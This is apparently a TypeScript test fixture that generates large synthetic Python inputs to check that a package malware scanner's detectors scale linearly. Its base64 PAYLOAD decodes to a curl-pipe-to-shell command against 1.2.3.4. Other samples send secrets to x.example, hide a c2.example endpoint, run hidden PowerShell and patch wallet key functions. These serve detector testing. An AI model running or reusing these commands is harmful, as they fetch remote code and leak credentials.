// Inputs a package author can make as large as they like, each of about n characters, for the scaling
// tests (helpers/scaling.ts): doubling one of these may at most about double the time of any stage
// (issue 15). The payload is a decoded exec that exec-decoded-payload must still find at either end.

export const PAYLOAD =
  "import base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImN1cmwgaHR0cDovLzEuMi4zLjQveCB8IHNoIik='))\n";

/** Seeded hex digits (mulberry32), so every run builds the same text. */
function hexDigits(seed: number, count: number): string {
  let a = seed >>> 0;
  let out = '';
  for (let i = 0; i < count; i++) {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = Math.imul(a ^ (a >>> 15), a | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    out += '0123456789abcdef'[((t ^ (t >>> 14)) >>> 0) & 15];
  }
  return out;
}

const repeatTo = (unit: string, n: number) => unit.repeat(Math.max(1, Math.ceil(n / unit.length)));

/** Lines built by `line(i)` until about n characters. */
function lines(n: number, line: (i: number) => string): string {
  const out: string[] = [];
  for (let i = 0, size = 0; size < n; i++) {
    const l = line(i);
    out.push(l);
    size += l.length + 1;
  }
  return `${out.join('\n')}\n`;
}

export const SHAPES: Record<string, (n: number) => string> = {
  'comment lines': (n) => {
    const hex = hexDigits(1, 64 * 64);
    return lines(n, (i) => `# ${hex.slice((i % 64) * 64, (i % 64) * 64 + 64)}`);
  },
  'indented comment lines': (n) =>
    `def f():\n    x = 1\n${repeatTo('    # 0123456789abcdef\n', n)}    return x\n`,
  'long lines of code': (n) => lines(n, (i) => `x${i} = (${'a+'.repeat(2500)}a);${' f(1);'.repeat(30)}`),
  'code after spaces': (n) => lines(n, () => `x = 1${' '.repeat(3000)}os.system('id')`),
  'long line ending in spaces': (n) => `x = 1${' '.repeat(n)}\n`,
  'tiny statements': (n) => repeatTo('x=1\n', n),
  'one line of statements': (n) => `${repeatTo('f(1);', n)}\n`,
  'deep nesting of calls': (n) => `x = ${repeatTo('f(', n)}\n`,
  'deep nesting of brackets': (n) => `x = ${repeatTo('[', n)}\n`,
  'deep nesting of blocks': (n) => {
    let s = '';
    for (let d = 0; s.length < n; d++) s += `${' '.repeat(d)}if x:\n`;
    return s;
  },
  'many string literals': (n) =>
    lines(n, (i) => `s${i} = 'C:/Users/u/AppData/Local/Google/Chrome/User Data http://1.2.3.4/a.exe ${i}'`),
  'one huge string literal': (n) => `s = '${repeatTo('A1b2', n)}'\n`,
  'many identical calls': (n) => repeatTo('os.system("id")\n', n),
  'commands held in variables': (n) =>
    lines(n, (i) => `c${i} = 'powershell -w hidden ${'x'.repeat(200)} ${i}'; os.system(c${i})`),
  'exec and decoder calls on one line': (n) => `${repeatTo('exec(d(x));', n)}\n`,
  // dangerous-command reads what an expression argument folds to: once per call, not per string on the line.
  'process calls on one line': (n) => `${repeatTo('os.system("id");', n)}\n`,
  'decoder-wrapper commands on one line': (n) =>
    `def d(s):\n    return base64.b64decode(s)\n${repeatTo('os.system(d("aWQ="));', n)}\n`,
  // binary-dropper reads a temporary file's name from the start of its line only.
  'temporary files started on one line': (n) =>
    `${repeatTo('t = tempfile.NamedTemporaryFile(); os.system("python " + t.name);', n)}\n`,
  // secret-beacon looks up blocks and assignments within bounded reach, once per candidate send.
  'silent sends in one try': (n) =>
    `def f():\n    try:\n${lines(n, (i) => `        d${i % 9} = {"ak": ak, "secret": sk}\n        requests.post("https://x.example/k", json=d${i % 9})`)}    except:\n        pass\n`,
  'silent sends on one line': (n) =>
    `try:\n    ${repeatTo('requests.post(U+"x", json={"secret": s});', n)}\nexcept:\n    pass\n`,
  // wallet-monkeypatch reads every line of a file that imports a key library, and looks up at most 32 hits.
  'key-library patches in one function': (n) =>
    `from eth_account import Account\ndef f():\n${lines(n, (i) => `    Account.from_key${i % 9} = g`)}`,
  // hidden-endpoint indexes callers and domains once per file, and looks assignments up within bounded reach.
  'hidden sends through one helper': (n) =>
    `def send(u, d):\n${lines(n / 2, (i) => `    requests.post(u, data=d${i % 9})`)}\n${lines(n / 2, (i) => `send(b64decode("aHR0cDovL2MyLmV4YW1wbGUv").decode() + "${i}", x)`)}`,
  // The reader normalises names (NFKC) only in files with non-ASCII text, and only texts short enough to be one.
  'a method chain in a non-ASCII file': (n) => `é = 1\nx${repeatTo('.y()', n)}\n`,
  // exec-decoded-payload and hidden-endpoint find a local's assignment in a per-file index, not by rescanning.
  'exec of a local under long assignments': (n) =>
    `def f():\n${lines(n / 2, (i) => `    x${'x'.repeat(400)} = ${i}`)}\n    ${repeatTo('exec(x);', n / 2)}\n`,
  // remote-command follows a bounded number of assignments back from each command to a fetch.
  'commands built from many fetched names': (n) =>
    `def f():\n    r = requests.get(u)\n${lines(n / 4, (i) => `    a${i % 50} = b${i % 50} + c + d + e + r.text`)}\n${lines(n / 4, (i) => `    os.system(a${i % 50} + a1 + a2 + a3 + a4 + a5 + a6 + a7)`)}`,
  // env-exfil reads what a body gathers, signs and guards on once per body, not once per send.
  'sends in a body that signs its requests': (n) =>
    `def f():\n    c = boto3.Session().get_credentials()\n${lines(n, () => '    requests.get(u)')}\n    SigV4Auth(c, "s3", "r").add_auth(q)\n`,
  // Files run as Python: strings are indexed by line once, and each runner reads a bounded number of bindings.
  'runners naming many files': (n) =>
    `import sys\n${lines(n / 2, (i) => `exec(a${i % 50}, 'x${i}.dat')`)}\n${lines(n / 2, (i) => `sys.path.insert(0, p${i % 50})`)}`,
  'sends under a long signature': (n) =>
    `def f(u, ${repeatTo('a=1, ', n / 2)}b=1):\n    ${repeatTo('requests.get(u);', n / 2)}\nf(1)\n`,
  // startup-file-write reads each written line once for a loader and a decoder after it.
  'loader words written into a startup file': (n) =>
    `def f():\n    fh = open("sitecustomize.py", "w")\n    fh.write("${repeatTo('exec(', n)}")\n`,
  'chr chains': (n) => `x = ${repeatTo('chr(1)+', n)}chr(1)\n`,
  'obfuscator markers': (n) => repeatTo('# pyarmor_runtime Hyperion Hyperion Hyperion\nf()\n', n),
  'obfuscated names': (n) => lines(n, (i) => `_0x${i.toString(16).padStart(5, '0')} = IlIlIl${i % 7}`),
  'imports and aliases': (n) => repeatTo('import os as o\nr = o.system\n', n),
  'syntax errors': (n) => `${repeatTo(')(:', n)}\n`,
  'f-strings': (n) => repeatTo('x = f"{a}{b(c)}{d}"\n', n),
  'encoded literals': (n) =>
    lines(n, (i) => `p${i} = '${Buffer.from(`import os\nos.system("echo ${i}")\n`).toString('base64')}'`),
};

export function withPayload(shape: string, n: number, at: 'start' | 'end'): string {
  const make = SHAPES[shape];
  if (!make) throw new Error(`unknown shape ${shape}`);
  const body = make(n);
  return at === 'start' ? PAYLOAD + body : `${body}\n${PAYLOAD}`;
}
